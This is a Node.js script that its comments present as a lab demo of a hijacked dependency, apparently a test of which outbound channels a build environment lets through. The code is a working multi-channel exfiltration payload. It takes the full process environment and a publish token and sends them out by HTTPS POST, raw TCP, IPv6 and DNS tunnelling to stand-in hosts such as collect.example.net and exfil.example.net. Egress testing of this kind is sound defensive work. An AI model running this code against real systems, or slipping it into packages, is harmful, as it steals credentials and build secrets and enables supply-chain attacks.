// What a hijacked dependency does: sends the environment of the build away, by every road it knows.
// The servers are those of the demo's own lab. What became of each attempt goes to attempts.json.
const dns = require('node:dns')
const fs = require('node:fs')
const https = require('node:https')
const net = require('node:net')

const loot = JSON.stringify(process.env)
const token = process.env.PUBLISH_TOKEN ?? ''
const labels =
  Buffer.from(token)
    .toString('hex')
    .match(/.{1,60}/g) ?? []

const post = (url) =>
  new Promise((resolve, reject) => {
    const request = https.request(url, { method: 'POST', timeout: 5000 }, (response) => {
      response.resume().once('end', resolve)
    })
    request.once('timeout', () => request.destroy(new Error('timeout')))
    request.once('error', reject).end(loot)
  })

const write = (host, port) =>
  new Promise((resolve, reject) => {
    const socket = net.connect({ host, port, timeout: 5000 }, () => socket.write(loot))
    socket.once('data', () => resolve(socket.destroy()))
    socket.once('timeout', () => socket.destroy(new Error('timeout')))
    socket.once('error', reject)
  })

const ask = async (server) => {
  const resolver = new dns.promises.Resolver({ timeout: 2000, tries: 1 })
  if (server !== null) resolver.setServers([server])
  for (const [index, label] of labels.entries()) {
    await resolver.resolve4(`${index}.${label}.exfil.example.net`)
  }
}

const roads = [
  ['name', () => post('https://collect.example.net/')],
  ['address', () => write('203.0.113.67', 8443)],
  ['dns', () => ask(null)],
  ['resolver', () => ask('198.51.100.53')],
  ['ipv6', () => post('https://[2001:db8:66::67]/')],
]

const attempt = async ([road, take]) => {
  const begun = performance.now()
  try {
    await take()
    return { road, error: null, ms: performance.now() - begun }
  } catch (error) {
    const code = error.code ?? error.errors?.[0]?.code ?? error.message
    return { road, error: code, ms: performance.now() - begun }
  }
}

const main = async () => {
  const attempts = []
  for (const road of roads) attempts.push(await attempt(road))
  fs.writeFileSync('attempts.json', JSON.stringify(attempts))
}

void main()
